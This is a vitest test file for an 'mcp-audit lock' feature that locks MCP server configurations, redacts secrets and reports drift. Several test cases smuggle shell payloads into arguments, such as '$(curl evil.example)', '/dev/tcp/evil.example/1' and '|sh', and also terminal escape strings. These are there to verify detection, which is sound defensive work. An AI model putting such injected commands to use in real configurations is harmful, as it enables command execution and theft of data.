/** `mcp-audit lock` and what scans say where there is a lock, as a user sees it. */

import { describe, expect, it } from 'vitest'
import { secret } from './fixtures.ts'
import { expectAtOnce } from './growth.ts'
import { run, type Surroundings, type Told } from './host.ts'

type Files = Readonly<Record<string, string | undefined>>

const servers = (entries: object): string => JSON.stringify({ mcpServers: entries }, undefined, 2)
const NOTES = { command: 'npx', args: ['-y', '@example/notes@1.0.0'], env: { NOTES_DIR: '/srv/notes' } }
const SEARCH = { command: 'search-server', args: ['--root', '.'] }
const BOTH = { '.mcp.json': servers({ notes: NOTES, search: SEARCH }) }

/** What `lock` writes for these files. */
async function lockOf(files: Files, argv: readonly string[] = []): Promise<string> {
  const { code, err, written } = await run(['lock', ...argv], { files })
  expect([code, err]).toEqual([0, ''])
  return [...written.values()][0] ?? ''
}

const checked = (files: Files, lock: string, around: Surroundings = {}): Promise<Told> =>
  run(['lock', '--check'], { ...around, files: { ...files, 'mcp-audit.lock': lock } })

interface Found {
  readonly rule: string
  readonly message: string
  readonly file: string
  readonly start: { readonly line: number; readonly column: number }
  readonly related: readonly { readonly file: string; readonly start: { readonly line: number } }[]
}

const RULES = ['--only', 'lock-drift,unlocked-server']

async function found(files: Files, argv: readonly string[] = []): Promise<readonly Found[]> {
  const { out, err } = await run([...argv, ...RULES, '--format', 'json'], { files })
  expect(out, err).toMatch(/^\{/)
  return JSON.parse(out).findings
}

const told = (findings: readonly Found[]): readonly string[] =>
  findings.map(({ rule, message }) => `${rule}: ${message}`)

describe('what is written', () => {
  it('is one fact a line, in an order of its own, without values of variables and headers', async () => {
    const files = {
      'sub/.mcp.json': servers({
        web: { type: 'http', url: 'https://you:pass@web.example/mcp?a=1', headers: { 'X-B': 'b', 'X-A': 'a' } },
      }),
      '.mcp.json': servers({
        z: { ...SEARCH, env: { B: 'two', A: 'one' } },
        a: { ...NOTES, disabled: true, cwd: 'x' },
      }),
      '.cursor/mcp.json': servers({ a: { command: 'docker', args: ['run', 'ghcr.io/example/a:1.2', 8080] } }),
    }
    const { code, out, written } = await run(['lock'], { files })
    expect([...written.keys()]).toEqual(['/repo/mcp-audit.lock'])
    expect(out).toBe(
      'Wrote mcp-audit.lock: 4 servers in 3 files. Commit the file: from now on scans report what changes.\n',
    )
    expect(code).toBe(0)
    expect([...written.values()][0]).toMatchInlineSnapshot(`
      "{
        "version": 1,
        "servers": [
          {
            "file": ".cursor/mcp.json",
            "name": "a",
            "transport": "stdio",
            "enabled": true,
            "command": "docker",
            "args": [
              "run",
              "ghcr.io/example/a:1.2",
              "8080"
            ],
            "packages": [
              "pkg:docker/example/a@1.2?repository_url=ghcr.io"
            ]
          },
          {
            "file": ".mcp.json",
            "name": "a",
            "transport": "stdio",
            "enabled": true,
            "command": "npx",
            "args": [
              "-y",
              "@example/notes@1.0.0"
            ],
            "cwd": "x",
            "packages": [
              "pkg:npm/%40example/notes@1.0.0"
            ],
            "env": [
              "NOTES_DIR"
            ]
          },
          {
            "file": ".mcp.json",
            "name": "z",
            "transport": "stdio",
            "enabled": true,
            "command": "search-server",
            "args": [
              "--root",
              "."
            ],
            "env": [
              "A",
              "B"
            ]
          },
          {
            "file": "sub/.mcp.json",
            "name": "web",
            "transport": "http",
            "enabled": true,
            "url": "https://‹redacted›@web.example/mcp?a=1",
            "headers": [
              "X-A",
              "X-B"
            ]
          }
        ]
      }
      "
    `)
  })

  it('says what runs without asking, by the own file and by others', async () => {
    const lock = await lockOf({
      '.mcp.json': servers({ files: SEARCH }),
      '.gemini/settings.json': servers({ g: { ...SEARCH, trust: true } }),
      '.claude/settings.json': JSON.stringify({
        enableAllProjectMcpServers: true,
        permissions: { allow: ['mcp__files__read', 'mcp__other', 'Bash(ls)'] },
      }),
    })
    const approvals = JSON.parse(lock).servers.map((entry: Readonly<Record<string, unknown>>) => [
      entry['name'],
      entry['approvals'],
      entry['approvalsElsewhere'],
    ])
    expect(approvals).toEqual([
      ['g', ['trust: true'], undefined],
      [
        'files',
        undefined,
        ['.claude/settings.json: enableAllProjectMcpServers: true', '.claude/settings.json: permissions.allow: read'],
      ],
    ])
  })

  it("holds the project's own files, and no personal ones, copies or homes", async () => {
    const lock = await lockOf({
      ...BOTH,
      '.mcp.json.bak': servers({ old: SEARCH }),
      '.claude/settings.local.json': servers({ mine: SEARCH }),
      '/home/dev/.cursor/mcp.json': servers({ home: SEARCH }),
    })
    expect(JSON.parse(lock).servers.map(({ name }: { name: string }) => name)).toEqual(['notes', 'search'])
  })

  it('holds no secret, and nothing by which one could be guessed: a rotated key is no change', async () => {
    const withKey = (key: string, word: string) => ({
      '.mcp.json': servers({
        api: { command: 'api-server', args: ['--token', key, `--password=${word}`, `https://x:${word}@api.example/`] },
        web: { type: 'http', url: `https://${word}@web.example/mcp?api_key=${key}` },
      }),
    })
    const [before, after] = [withKey(secret('github-classic'), 'sommer'), withKey(secret('opaque'), 'winter')]
    const lock = await lockOf(before)
    for (const hidden of [secret('github-classic').slice(6, 14), 'sommer']) expect(lock).not.toContain(hidden)
    expect(lock).toContain('--password=‹redacted›')
    expect(await lockOf(after)).toBe(lock)
    expect((await checked(after, lock)).code).toBe(0)
  })

  it('tells a secret with signs that a shell acts upon from one without', async () => {
    const withWord = (word: string) => ({ '.mcp.json': servers({ a: { command: 'a', args: ['--password', word] } }) })
    const lock = await lockOf(withWord('kT9x2mQ7vB'))
    const { code, out } = await checked(withWord('kT9x2;curl$IFS|sh'), lock)
    expect(out).toContain("argument 2 was locked as '‹redacted›' and is '‹redacted-with-signs›' now")
    expect(code).toBe(1)
  })

  it.each([
    ['TOKEN=a8Kx02bTq9 npx server', 'TOKEN=a8Kx02bTq9 npx other'],
    ['TOKEN=a8Kx02bTq9;npx server', 'TOKEN=a8Kx02bTq9;npx other'],
    ['TOKEN=a8Kx02bTq9&&npx server', 'TOKEN=a8Kx02bTq9|sh&&npx server'],
    ['export PASSWORD="kT9x2 mQ7vB"; server', 'export PASSWORD="kT9x2 mQ7vB$(curl evil.example)"; server'],
    ['PASSWORD="kT9$(date)" server', 'PASSWORD="kT9$(curl evil.example)" server'],
    ['server --password `date`x1', 'server --password `curl evil.example`x1'],
    ['server --token abc --x', 'server --token abc; evil --x'],
    ['SECRET_KEY=words server', 'SECRET_KEY=words</dev/tcp/evil.example/1 server'],
  ])('hides in no secret what a shell does: %s', async (before, after) => {
    const script = (text: string) => ({ '.mcp.json': servers({ a: { command: 'sh', args: ['-c', text] } }) })
    const lock = await lockOf(script(before))
    for (const word of ['a8Kx02bTq9', 'kT9x2']) expect(lock).not.toContain(word)
    expect((await checked(script(before), lock)).code).toBe(0)
    expect((await checked(script(after), lock)).code).toBe(1)
  })

  it('leaves logins out of addresses, wherever these stand, and leaves variables in', async () => {
    const args = [
      'git+https://someuser:sesame@git.example/x@v1',
      'x@git+https://someuser@git.example/x',
      'https:\\\\someuser@web.example',
      'run postgres://someuser:sesame@db.example/x --y',
      'https://${USER}:${PASSWORD}@web.example',
    ]
    const lock = await lockOf({
      '.mcp.json': servers({
        a: { command: 'uvx', args: ['--from', args[0], 'x'] },
        b: { command: 'npx', args: [args[1], ...args.slice(2)] },
      }),
    })
    for (const hidden of ['someuser', 'sesame']) expect(lock).not.toContain(hidden)
    for (const kept of ['@git.example/x', '@web.example', '@db.example', '${USER}:${PASSWORD}@'])
      expect(lock).toContain(kept)
  })

  it('keeps what pins code, whatever it looks like', async () => {
    const pins = ['0123456789abcdef0123456789abcdef01234567', 'f3a9c1d27e5b8046f3a9c1d27e5b8046f3a9c1d2']
    const [digest, other] = ['9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', 'ab12'.repeat(16)]
    const args = [...pins.map((pin) => `git+https://github.com/example/x@${pin}`), `example/y@sha256:${digest}`]
    const lock = await lockOf({
      '.mcp.json': servers({
        a: { command: 'uvx', args: ['--from', args[0], 'x'] },
        b: { command: 'npx', args: [args[1]] },
        c: { command: 'docker', args: ['run', args[2], `--key=sha256:${other}`] },
        d: { command: 'npx', args: ['https://example.com/archive/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b.tgz'] },
      }),
    })
    for (const pin of [...pins, digest, '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b.tgz']) expect(lock).toContain(pin)
  })

  it('has each package in the one spelling that it has always had, whatever is shown elsewhere', async () => {
    const lock = await lockOf({
      '.mcp.json': servers({
        dotnet: { command: 'dnx', args: ['Contoso.Mcp@1.2.3', '--yes'] },
        go: { command: 'go', args: ['run', 'github.com/Owner/Server@v1.2.3'] },
        jsr: { command: 'deno', args: ['run', 'jsr:@example/server@1.0.0'] },
      }),
    })
    expect(lock.match(/pkg:[^"]*/g)).toEqual([
      'pkg:nuget/contoso.mcp@1.2.3',
      'pkg:golang/github.com/Owner/Server@v1.2.3',
      'pkg:jsr/%40example/server@1.0.0',
    ])
  })

  it('goes where the command line or the settings say', async () => {
    const settings = { 'mcp-audit.jsonc': '{ "lock": "security/servers.lock" }', '.git/HEAD': '', 'sub/x': '' }
    const files = { ...BOTH, ...settings }
    expect([...(await run(['lock'], { files })).written.keys()]).toEqual(['/repo/security/servers.lock'])
    expect([...(await run(['lock', '--lock', 'mine.lock'], { files, cwd: '/repo/sub' })).written.keys()]).toEqual([
      '/repo/sub/mine.lock',
    ])
    expect([...(await run(['lock', '--no-config'], { files })).written.keys()]).toEqual(['/repo/mcp-audit.lock'])
  })
})

describe('locking again', () => {
  it('says that nothing changed, and writes nothing', async () => {
    const lock = await lockOf(BOTH)
    const { out, written } = await run(['lock'], { files: { ...BOTH, 'mcp-audit.lock': lock } })
    expect(out).toBe('Nothing changed since the last lock: 2 servers in 1 file.\n')
    expect(written.size).toBe(0)
  })

  it('says what changed', async () => {
    const lock = await lockOf(BOTH)
    const files = {
      '.mcp.json': servers({ notes: { ...NOTES, args: ['-y', '@example/notes@2.0.0'] }, added: { command: 'a' } }),
      'mcp-audit.lock': lock,
    }
    const { out, written, code } = await run(['lock'], { files })
    expect(out).toBe(`Wrote mcp-audit.lock: 2 servers in 1 file. Commit the file: from now on scans report what changes.
Since the last lock:
  .mcp.json:7:25: server 'notes': argument 2 was locked as '@example/notes@1.0.0' and is '@example/notes@2.0.0' now.
  .mcp.json:13:5: server 'added' is not in the lock.
  mcp-audit.lock:23:15: server 'search' of '.mcp.json' is gone.
`)
    expect(code).toBe(0)
    expect((await checked(files, [...written.values()][0] ?? '')).code).toBe(0)
  })

  it('replaces one that a merge left broken', async () => {
    const files = { ...BOTH, 'mcp-audit.lock': `<<<<<<< ours\n${await lockOf(BOTH)}` }
    const { code, err, written } = await run(['lock'], { files })
    expect(err).toBe('note: The last lock cannot be read, so changes since then are unknown.\n')
    expect([code, [...written.values()][0]]).toEqual([0, await lockOf(BOTH)])
  })

  it('says what was not looked at', async () => {
    const { code, err } = await run(['lock'], { files: { ...BOTH, '.cursor/mcp.json': '{ "mcpServers": ' } })
    expect([code, err]).toEqual([
      0,
      expect.stringMatching(/^note: Not read, or not read in full:\n {2}\.cursor\/mcp\.json: /),
    ])
  })
})

describe('lock --check', () => {
  it('is content with what was locked', async () => {
    const { code, out, err, written } = await checked(BOTH, await lockOf(BOTH))
    expect([code, out, err, written.size]).toEqual([0, 'Up to date with mcp-audit.lock: 2 servers.\n', '', 0])
  })

  it('names a renamed server and is content', async () => {
    const moved = { 'app/.mcp.json': servers({ memos: NOTES, search: SEARCH }) }
    const { code, out } = await checked(moved, await lockOf(BOTH))
    expect([code, out]).toEqual([
      0,
      "Up to date with mcp-audit.lock: 2 servers.\n  app/.mcp.json:3:5: server 'memos' was locked as 'notes' of '.mcp.json'.\n  app/.mcp.json:13:5: server 'search' was locked as 'search' of '.mcp.json'.\n",
    ])
  })

  it('tells of a renamed server what other files grant to it more than before, whatever they call it', async () => {
    const settings = (...allow: readonly string[]) => JSON.stringify({ permissions: { allow } })
    const before = { '.mcp.json': servers({ notes: NOTES }), '.claude/settings.json': settings('mcp__notes__read') }
    const moved = (...allow: readonly string[]) => ({
      'app/.mcp.json': servers({ memos: NOTES }),
      'app/.claude/settings.json': settings(...allow),
    })
    const lock = await lockOf(before)
    expect((await checked(moved('mcp__memos__read'), lock)).code).toBe(0)
    const { code, out } = await checked(moved('mcp__memos__read', 'mcp__memos__write'), lock)
    expect(code).toBe(1)
    expect(out).toContain('permissions.allow: write')
    expect(out).not.toContain('permissions.allow: read')
  })

  it.each([
    [true, false, 'it was locked as switched on and is off now'],
    [false, true, 'it was locked as switched off and is on now'],
  ])('tells of a server that is switched from %s to %s', async (was, is, says) => {
    const files = (enabled: boolean) => ({
      'opencode.json': JSON.stringify({ mcp: { a: { type: 'local', command: ['a'], enabled } } }),
    })
    const { code, out } = await checked(files(is), await lockOf(files(was)))
    expect([code, out]).toEqual([1, expect.stringContaining(says)])
  })

  it('tells every change, every new server and every one that is gone', async () => {
    const { code, out } = await checked({ '.mcp.json': servers({ notes: SEARCH, n0tes: NOTES }) }, await lockOf(BOTH))
    expect(code).toBe(1)
    expect(out).toMatch(/^Out of date with mcp-audit\.lock:\n/)
    expect(out).toContain("server 'notes': the command was locked as 'npx' and is 'search-server' now.")
    expect(out).toContain("server 'notes': environment variable 'NOTES_DIR' was locked and is gone.")
    expect(out).toContain("server 'n0tes' is not in the lock.")
    expect(out).toContain("server 'search' of '.mcp.json' is gone.")
    expect(out).toMatch(/'mcp-audit lock' brings the lock up to date\.\n$/)
  })

  it('tells of variables that an entry only names', async () => {
    const file = (bearer: string, header: string, passed: string) =>
      [
        '[mcp_servers.a]',
        'url = "https://api.example.com/mcp"',
        `bearer_token_env_var = "${bearer}"`,
        `env_http_headers = { ${header} }`,
        '[mcp_servers.b]',
        'command = "b-server"',
        `env_vars = [${passed}]`,
      ].join('\n')
    const lock = await lockOf({ '.codex/config.toml': file('A_TOKEN', '"X-Key" = "A_KEY"', '"B_TOKEN"') })
    const now = file(
      'GITHUB_TOKEN',
      '"X-Key" = "AWS_SECRET_ACCESS_KEY", "X-More" = "A_KEY"',
      '"B_TOKEN", { name = "NPM_TOKEN" }',
    )
    const { code, out } = await checked({ '.codex/config.toml': now }, lock)
    expect(code).toBe(1)
    for (const says of [
      "environment variable 'AWS_SECRET_ACCESS_KEY' was not locked",
      "environment variable 'GITHUB_TOKEN' was not locked",
      "environment variable 'A_TOKEN' was locked and is gone",
      "header 'X-More' was not locked",
      "environment variable 'NPM_TOKEN' was not locked",
    ])
      expect(out).toContain(says)
  })

  it('does not heed comments, ignores and a baseline', async () => {
    const lock = await lockOf(BOTH)
    const files = {
      '.mcp.json': `// mcp-audit-ignore-file lock-drift -- trust me\n${servers({ notes: SEARCH, search: SEARCH })}`,
      'mcp-audit.jsonc':
        '{ "rules": { "lock-drift": "off" }, "ignore": [{ "rule": "unlocked-server", "reason": "no" }] }',
    }
    expect((await checked(files, lock)).code).toBe(1)
  })

  it('knows that a file which granted something is gone, as a scan of one file cannot', async () => {
    const granting = { '.claude/settings.json': JSON.stringify({ permissions: { allow: ['mcp__notes__read'] } }) }
    const lock = await lockOf({ ...BOTH, ...granting })
    const { code, out } = await checked(BOTH, lock)
    expect([code, out]).toEqual([
      1,
      expect.stringContaining(
        "mcp-audit.lock:21:9: server 'notes': approval '.claude/settings.json: permissions.allow: read' was locked and is gone.",
      ),
    ])
    expect(await found({ ...BOTH, 'mcp-audit.lock': lock })).toEqual([])
  })

  it('wants a lock that is there', async () => {
    const { code, err } = await run(['lock', '--check'], { files: BOTH })
    expect([code, err]).toEqual([2, "error: There is no lock 'mcp-audit.lock'.\n'mcp-audit lock' writes one.\n"])
  })
})

describe('a scan', () => {
  it('tells what was locked and what stands there now, at the token and at the line of the lock', async () => {
    const lock = await lockOf(BOTH)
    const changed = { '.mcp.json': BOTH['.mcp.json'].replace('1.0.0', '1.0.1'), 'mcp-audit.lock': lock }
    const [drift, ...more] = await found(changed)
    expect(more).toEqual([])
    expect(drift).toMatchObject({
      rule: 'lock-drift',
      message:
        "Server 'notes' differs from the lock: argument 2 was locked as '@example/notes@1.0.0' and is '@example/notes@1.0.1' now. Nothing records that anyone reviewed the change.",
      file: '.mcp.json',
      start: { line: 7, column: 25 },
      related: [{ file: 'mcp-audit.lock', start: { line: 12 } }],
    })
    expect(lock.split('\n')[11]).toContain('@example/notes@1.0.0')
    expect((await run([...RULES], { files: changed })).code).toBe(1)
  })

  it('says nothing without a lock, and nothing about a server that is gone', async () => {
    expect(await found(BOTH)).toEqual([])
    expect(await found({ '.mcp.json': servers({ notes: NOTES }), 'mcp-audit.lock': await lockOf(BOTH) })).toEqual([])
  })

  it.each<readonly [string, (entry: typeof NOTES) => object, RegExp]>([
    ['a command', (entry) => ({ ...entry, command: 'bunx' }), /the command was locked as 'npx' and is 'bunx' now/],
    [
      'a new argument',
      ({ args, ...entry }) => ({ ...entry, args: [...args, '--x'] }),
      /argument 3 '--x' was not locked/,
    ],
    ['a lost argument', (entry) => ({ ...entry, args: ['-y'] }), /argument 2 was locked as .* and is gone/],
    ['a number', ({ args, ...entry }) => ({ ...entry, args: [...args, 7] }), /argument 3 '7' was not locked/],
    ['all arguments', (entry) => ({ ...entry, args: [...'abcdefghij'] }), /the list of arguments was locked as/],
    [
      'the name of a variable',
      (entry) => ({ ...entry, env: { PATH: '' } }),
      /variable was locked as 'NOTES_DIR' and is 'PATH' now/,
    ],
    ['one variable more', (entry) => ({ ...entry, env: { ...entry.env, PATH: '' } }), /variable 'PATH' was not locked/],
    ['the folder', (entry) => ({ ...entry, cwd: '/tmp' }), /the working directory '\/tmp' was not locked/],
    ['a file of variables', (entry) => ({ ...entry, envFile: '.env' }), /the file of variables '\.env' was not locked/],
    [
      'an address',
      (entry) => ({ ...entry, url: 'https://x.example/mcp' }),
      /the URL 'https:\/\/x\.example\/mcp' was not locked/,
    ],
    ['a header', (entry) => ({ ...entry, headers: { 'X-A': 'a' } }), /header 'X-A' was not locked/],
    [
      'a command for headers',
      (entry) => ({ ...entry, headersHelper: './login.sh' }),
      /command run for it '\.\/login\.sh' was not locked/,
    ],
    ['an approval', (entry) => ({ ...entry, autoApprove: ['write'] }), /approval 'autoApprove: write' was not locked/],
  ])('reports %s', async (_what, change, says) => {
    const lock = await lockOf({ '.mcp.json': servers({ notes: NOTES }) })
    const changed = { '.mcp.json': servers({ notes: change(NOTES) }), 'mcp-audit.lock': lock }
    expect(told(await found(changed)).join('\n')).toMatch(says)
    expect((await run(['lock', '--check'], { files: changed })).code).toBe(1)
  })

  it('takes another spelling of the same header or address for no change', async () => {
    const file = (url: string, header: string) => ({
      '.mcp.json': servers({ web: { type: 'http', url, headers: { [header]: 'a' } } }),
    })
    const lock = { 'mcp-audit.lock': await lockOf(file('https://Web.example:443/mcp/A', 'X-Team')) }
    for (const same of [file('https://web.example/mcp/A', 'x-team'), file('HTTPS://WEB.EXAMPLE/mcp/A', 'X-TEAM')])
      expect(await found({ ...same, ...lock })).toEqual([])
    for (const [url, header, says] of [
      ['https://web.example:8443/mcp/A', 'X-Team', /'https:\/\/web\.example:8443/],
      ['https://web.example/mcp/a', 'X-Team', /'https:\/\/web\.example\/mcp\/a' now/],
      ['http://web.example:443/mcp/A', 'X-Team', /'http:\/\/web\.example:443/],
      ['https://web.example/mcp/A', 'X-TeamId', /header was locked as 'X-Team' and is 'X-TeamId' now/],
    ] as const)
      expect(told(await found({ ...file(url, header), ...lock }))).toEqual([expect.stringMatching(says)])
  })

  it('tells a grant for all servers once', async () => {
    const lock = await lockOf(BOTH)
    const granting = JSON.stringify({ enableAllProjectMcpServers: true })
    const added = await found({ ...BOTH, '.claude/settings.json': granting, 'mcp-audit.lock': lock })
    expect(added.map(({ rule, file }) => [rule, file])).toEqual([['lock-drift', '.claude/settings.json']])
    const more = await lockOf({ ...BOTH, '.claude/settings.json': granting })
    const gone = await found({ ...BOTH, '.claude/settings.json': '{ "model": "x" }', 'mcp-audit.lock': more })
    expect(gone.map(({ file, message }) => [file, message])).toEqual([
      ['.claude/settings.json', expect.stringMatching(/enableAllProjectMcpServers: true' was locked and is gone/)],
    ])
  })

  it('of one file compares what that file says, and takes no other for gone', async () => {
    const files = {
      ...BOTH,
      'app/.mcp.json': servers({ web: { type: 'http', url: 'https://web.example/mcp' } }),
      '.claude/settings.json': JSON.stringify({ permissions: { allow: ['mcp__notes__read'] } }),
    }
    const lock = await lockOf(files)
    for (const path of Object.keys(files)) expect(await found({ ...files, 'mcp-audit.lock': lock }, [path])).toEqual([])
  })

  it('of a server that was renamed and changed at once says that nobody knows it', async () => {
    const files = {
      '.mcp.json': servers({ memos: { ...NOTES, args: ['-y', '@example/notes@6.6.6'] }, search: SEARCH }),
      'mcp-audit.lock': await lockOf(BOTH),
    }
    expect(told(await found(files))).toEqual([
      "unlocked-server: Server 'memos' is not in the lock: nothing records that anyone reviewed it. It may be 'notes', renamed and changed: the lock has that one for this file, and it is gone.",
    ])
    expect((await run(['lock', '--check'], { files })).code).toBe(1)
  })

  it('lets nobody take the name of one server and the content of another', async () => {
    const files = { '.mcp.json': servers({ notes: SEARCH, search: NOTES }), 'mcp-audit.lock': await lockOf(BOTH) }
    expect(new Set((await found(files)).map(({ rule, message }) => `${rule} ${message.slice(0, 14)}`))).toEqual(
      new Set(["lock-drift Server 'notes'", "lock-drift Server 'search"].map((words) => words.slice(0, 25))),
    )
  })

  it('takes a second entry of a locked name, under another key of the file, for a change', async () => {
    const file = (more: object) => ({ '.vscode/mcp.json': JSON.stringify({ servers: { notes: NOTES }, ...more }) })
    const lock = { 'mcp-audit.lock': await lockOf(file({})) }
    const second = file({ mcpServers: { notes: { ...NOTES, args: ['-y', '@example/notes@6.6.6'] } } })
    const findings = await found({ ...second, ...lock }, ['--min-confidence', 'low'])
    expect(told(findings).join('\n')).toMatch(/^lock-drift: .* is '@example\/notes@6\.6\.6' now/)
  })

  it('has no use for a second server of one locked content', async () => {
    const files = {
      '.mcp.json': servers({ a: SEARCH, search: SEARCH, notes: NOTES }),
      'mcp-audit.lock': await lockOf(BOTH),
    }
    expect(told(await found(files))).toEqual([
      "unlocked-server: Server 'a' is not in the lock: nothing records that anyone reviewed it.",
    ])
  })

  it('reads the lock that the command line or the settings name, and none with --no-lock', async () => {
    const lock = await lockOf(BOTH)
    const changed = servers({ notes: NOTES, search: { command: 'x' } })
    const files = { '.mcp.json': changed, 'locks/a.lock': lock, 'mcp-audit.jsonc': '{ "lock": "locks/a.lock" }' }
    expect(await found(files)).not.toEqual([])
    expect(await found(files, ['--no-lock'])).toEqual([])
    expect(await found({ '.mcp.json': changed, 'b.lock': lock }, ['--lock', 'b.lock'])).not.toEqual([])
    const { code, err } = await run(['--lock', 'none.lock'], { files: BOTH })
    expect([code, err]).toEqual([2, "error: The lock 'none.lock' does not exist.\n"])
  })

  it('shows a switched-off server that changed only to those who ask', async () => {
    const off = (args: readonly string[]) => ({
      '.cline/mcp.json': '',
      'opencode.json': JSON.stringify({ mcp: { a: { type: 'local', command: ['a', ...args], enabled: false } } }),
    })
    const files = { ...off(['y']), 'mcp-audit.lock': await lockOf(off(['x'])) }
    expect(await found(files)).toEqual([])
    expect(await found(files, ['--min-confidence', 'low'])).toHaveLength(1)
  })

  it('is not silenced by a baseline, which would silence the next change too', async () => {
    const lock = await lockOf(BOTH)
    const files = {
      '.mcp.json': servers({ notes: NOTES, search: { command: 'x' }, more: SEARCH }),
      'mcp-audit.lock': lock,
    }
    const { written } = await run(['baseline'], { files })
    expect([...written.values()].join('')).not.toMatch(/lock/)
  })

  it('takes a buffer under the name of its file, and says nothing of one without a name', async () => {
    const lock = { 'mcp-audit.lock': await lockOf(BOTH) }
    const input = servers({ notes: NOTES, search: { command: 'x' } })
    const named = await run(['--stdin-filename', '.mcp.json', ...RULES], { files: lock, input })
    expect(named.out).toContain('lock-drift')
    expect((await run(['-', ...RULES], { files: lock, input })).out).not.toContain('lock')
  })
})

describe('a lock that cannot be used', () => {
  const good = '{ "file": ".mcp.json", "name": "a", "transport": "stdio", "enabled": true }'
  const broken: Readonly<Record<string, readonly [text: string | undefined, says: RegExp]>> = {
    'is empty': ['', /mcp-audit\.lock:1:1: The file is empty/],
    'ends too early': [`{ "version": 1, "servers": [${good}`, /mcp-audit\.lock:1:\d+: /],
    'is of another version': [
      '{ "version": 2, "servers": [] }',
      /mcp-audit\.lock:1:14: Only version 1 of this file is known here/,
    ],
    'has no version': ['{ "servers": [] }', /mcp-audit\.lock:1:1: The key 'version' is missing/],
    'is a list': ['[]', /mcp-audit\.lock:1:1: An object in braces is expected here, not a list/],
    'has no list': ['{ "version": 1, "servers": { "length": {} } }', /1:28: A list in brackets is expected here/],
    'has an unknown key': [
      `{ "version": 1, "servers": [${good.replace('"name"', '"nam": "x", "name"')}] }`,
      /There is no key 'nam'\. Did you mean 'name'\?/,
    ],
    'has a key twice': [
      `{ "version": 1, "servers": [], "servers": [${good}] }`,
      /mcp-audit\.lock:1:17: This key stands more than once/,
    ],
    'has a prototype': [
      '{ "version": 1, "servers": [], "__proto__": { "x": 1 } }',
      /1:32: There is no setting of this name/,
    ],
    'has a prototype further down': [
      `{ "version": 1, "servers": [${good.replace('"name"', '"__proto__": {}, "name"')}] }`,
      /1:52: There is no setting of this name/,
    ],
    'has a wrong kind of value': [
      `{ "version": 1, "servers": [${good.replace('true', '"yes"')}] }`,
      /1:98: true or false is expected here, not a string/,
    ],
    'has an unknown transport': [
      `{ "version": 1, "servers": [${good.replace('stdio', 'stdoi')}] }`,
      /One of 'stdio', .* is expected here\. Did you mean 'stdio'\?/,
    ],
    'is nested without end': ['['.repeat(100_000), /mcp-audit\.lock:1:\d+: /],
    'holds more than anybody has': [
      `{ "version": 1, "servers": [${Array.from({ length: 10_001 }, () => good).join()}] }`,
      /This is too long: 10000 is the most/,
    ],
    'is a pipe': [undefined, /The lock 'mcp-audit\.lock' is not a regular file/],
  }

  it.each(Object.entries(broken))('because it %s', async (_why, [text, says]) => {
    const files = { ...BOTH, 'mcp-audit.lock': text }
    for (const argv of [['lock', '--check'], ['--scope', 'project'], ['checklist']]) {
      const { code, err, out } = await run(argv, { files })
      expect([code, out]).toEqual([2, ''])
      expect(err).toMatch(says)
    }
    expect((await run(['--no-lock'], { files })).code).toBeLessThan(2)
  })

  it('because it is a folder', async () => {
    const { code, err } = await run(['lock', '--check'], { files: { ...BOTH, 'mcp-audit.lock/x': '' } })
    expect([code, err]).toEqual([2, expect.stringMatching(/^error: The lock 'mcp-audit\.lock' /)])
  })

  it('is told from one that an editor or git gave other line ends and a byte order mark', async () => {
    const lock = await lockOf(BOTH)
    expect((await checked(BOTH, `\u{feff}${lock.replaceAll('\n', '\r\n')}`)).code).toBe(0)
    expect((await checked(BOTH, JSON.stringify(JSON.parse(lock)))).code).toBe(0)
  })

  it('has no say in what a terminal does', async () => {
    const evil = '\u001b[2J\n::error::x\u202e'
    const lock = JSON.stringify({
      version: 1,
      servers: [{ file: evil, name: evil, transport: 'stdio', enabled: true, command: evil, args: [evil] }],
    })
    const { out, code } = await checked(BOTH, lock)
    expect(code).toBe(1)
    expect(out).not.toMatch(/[\u001b\u202e]|^::/m)
  })
})

describe('time', () => {
  const many = <T>(count: number, each: (index: number) => T) =>
    Array.from({ length: count }, (_, index) => each(index))
  const named = (count: number, each: (index: number) => object) =>
    Object.fromEntries(many(count, (index) => [`s${index}`, each(index)]))
  const shapes: Readonly<Record<string, (size: number) => object>> = {
    'servers of one content': (size) => named(size / 5, () => ({ command: 'x' })),
    'servers with approvals': (size) => named(size / 5, (index) => ({ command: 'x', autoApprove: ['a', `t${index}`] })),
    arguments: (size) => ({ a: { command: 'x', args: many(size, (index) => `--token${index}=a${index}`) } }),
    variables: (size) => ({
      a: { command: 'x', env: Object.fromEntries(many(size, (index) => [`E${index}`, 'x'])) },
    }),
    'what never ends': (size) => ({
      a: { command: 'x', args: ['password="', 'token=', '--token ', '$('].map((word) => word.repeat(size)) },
    }),
  }
  const SIZE = 20_000

  it.each(Object.entries(shapes))('has an end, of many %s that all changed', async (what, entriesOf) => {
    const locked = async (size: number) => {
      const text = servers(entriesOf(size))
      const lock = await lockOf({ '.mcp.json': text })
      return [text.replaceAll('"x"', '"y"').replaceAll('"s1', '"q1').replaceAll('--token', '--other'), lock] as const
    }
    const [all, quarter] = [await locked(SIZE), await locked(SIZE / 4)]
    const prepare = (size: number) => async () => {
      const [changed, lock] = size === SIZE ? all : quarter
      expect((await checked({ '.mcp.json': changed }, lock)).code).toBe(1)
      expect((await found({ '.mcp.json': changed, 'mcp-audit.lock': lock })).length).toBeGreaterThan(0)
    }
    await expectAtOnce(SIZE, { enough: 1_500 }, prepare, what)
  })
})
